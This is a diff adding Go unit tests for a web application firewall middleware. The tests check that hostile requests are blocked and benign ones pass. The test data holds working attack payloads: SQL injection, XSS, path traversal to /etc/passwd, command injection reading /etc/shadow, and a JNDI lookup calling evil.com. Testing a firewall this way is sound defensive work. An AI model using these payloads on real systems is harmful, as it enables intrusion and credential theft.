@@ -0,0 +1,181 @@
+package middleware
+
+import (
+	"net/http"
+	"testing"
+
+	nettypes "github.com/yusing/godoxy/internal/net/types"
+	expect "github.com/yusing/goutils/testing"
+)
+
+func TestWAF(t *testing.T) {
+	tests := []struct {
+		name    string
+		url     string
+		headers http.Header
+		body    string
+		opts    OptionsRaw
+		blocked bool
+	}{
+		{
+			name: "clean",
+			url:  "https://example.com/search?q=hello+world",
+		},
+		{
+			name:    "sqli union select",
+			url:     "https://example.com/items?id=1%20UNION%20SELECT%20password%20FROM%20users",
+			blocked: true,
+		},
+		{
+			name:    "sqli double encoded",
+			url:     "https://example.com/items?id=1%2527%2520or%25201%253D1",
+			blocked: true,
+		},
+		{
+			name:    "xss",
+			url:     "https://example.com/?name=%3Cscript%3Ealert(1)%3C/script%3E",
+			blocked: true,
+		},
+		{
+			name:    "path traversal",
+			url:     "https://example.com/static/..%2f..%2fetc/passwd",
+			blocked: true,
+		},
+		{
+			name:    "scanner",
+			url:     "https://example.com/",
+			headers: http.Header{"User-Agent": {"sqlmap/1.7"}},
+			blocked: true,
+		},
+		{
+			name:    "body",
+			url:     "https://example.com/login",
+			headers: http.Header{"Content-Type": {"application/x-www-form-urlencoded"}},
+			body:    "user=admin'--&password=x",
+			blocked: true,
+		},
+		{
+			name:    "json body",
+			url:     "https://example.com/api/items",
+			headers: http.Header{"Content-Type": {"application/json"}},
+			body:    `{"filter":{"name":"x' OR 'a'='a"}}`,
+			blocked: true,
+		},
+		{
+			name:    "json body command injection",
+			url:     "https://example.com/api/ping",
+			headers: http.Header{"Content-Type": {"application/json"}},
+			body:    `{"host":"127.0.0.1; cat /etc/shadow"}`,
+			blocked: true,
+		},
+		{
+			name:    "body not inspected",
+			url:     "https://example.com/login",
+			headers: http.Header{"Content-Type": {"application/x-www-form-urlencoded"}},
+			body:    "user=admin'--&password=x",
+			opts:    OptionsRaw{"inspect_body": false},
+		},
+		{
+			name: "benign cookie",
+			url:  "https://example.com/",
+			headers: http.Header{"Cookie": {
+				`prefs="a|b";session=x;theme=dark&ls -la`,
+				`filter='name' or 'id'='1'`,
+			}},
+		},
+		{
+			name: "benign referer",
+			url:  "https://example.com/",
+			headers: http.Header{"Referer": {
+				"https://search.example.org/?q=cats+%26+dogs+%7C+cat+facts&sort='date' or 'a'='a'",
+			}},
+		},
+		{
+			name:    "header injection",
+			url:     "https://example.com/",
+			headers: http.Header{"X-Api-Version": {"${jndi:ldap://evil.com/a}"}},
+			blocked: true,
+		},
+		{
+			name: "log only",
+			url:  "https://example.com/?name=%3Cscript%3Ealert(1)%3C/script%3E",
+			opts: OptionsRaw{"mode": "log"},
+		},
+		{
+			name: "excluded",
+			url:  "https://example.com/?name=%3Cscript%3Ealert(1)%3C/script%3E",
+			opts: OptionsRaw{"exclude_rules": []string{"941*"}},
+		},
+		{
+			name: "below threshold",
+			url:  "https://example.com/?name=%3Cscript%3Ealert(1)%3C/script%3E",
+			opts: OptionsRaw{"threshold": 10},
+		},
+		{
+			name: "custom rule",
+			url:  "https://example.com/wp-admin/",
+			opts: OptionsRaw{"custom_rules": []map[string]any{
+				{"id": "100001", "targets": []string{"path"}, "pattern": "^/wp-admin"},
+			}},
+			blocked: true,
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			args := &testArgs{
+				middlewareOpt: tt.opts,
+				reqURL:        nettypes.MustParseURL(tt.url),
+				headers:       tt.headers,
+			}
+			if tt.body != "" {
+				args.reqMethod = http.MethodPost
+				args.body = []byte(tt.body)
+			}
+			result, err := newMiddlewareTest(WAF, args)
+			expect.NoError(t, err)
+			if tt.blocked {
+				expect.Equal(t, result.ResponseStatus, http.StatusForbidden)
+			} else {
+				expect.Equal(t, result.ResponseStatus, http.StatusOK)
+			}
+		})
+	}
+}
+
+func TestWAFBodyFalsePositives(t *testing.T) {
+	tests := []struct {
+		contentType string
+		body        string
+	}{
+		{"application/x-www-form-urlencoded", "name=foo&id=3"},
+		{"application/x-www-form-urlencoded", "user=bob&cat=books"},
+		{"application/x-www-form-urlencoded", "color=%23ff0000&args=--verbose"},
+		{"application/json", `{"color":"#ff0000"}`},
+		{"application/json", `{"args":"--verbose"}`},
+		{"application/json", `{"text":"Tom and 1=1"}`},
+		{"application/json", `{"items":[{"id":3,"note":"salt & pepper"}],"comment":"it's \"great\" #1"}`},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.body, func(t *testing.T) {
+			result, err := newMiddlewareTest(WAF, &testArgs{
+				reqURL:    nettypes.MustParseURL("https://example.com/submit"),
+				reqMethod: http.MethodPost,
+				headers:   http.Header{"Content-Type": {tt.contentType}},
+				body:      []byte(tt.body),
+			})
+			expect.NoError(t, err)
+			expect.Equal(t, result.ResponseStatus, http.StatusOK)
+		})
+	}
+}
+
+func TestWAFInvalidCustomRule(t *testing.T) {
+	_, err := WAF.New(OptionsRaw{
+		"custom_rules": []map[string]any{
+			{"id": "100001", "targets": []string{"path"}, "pattern": "("},
+		},
+	})
+	expect.HasError(t, err)
+}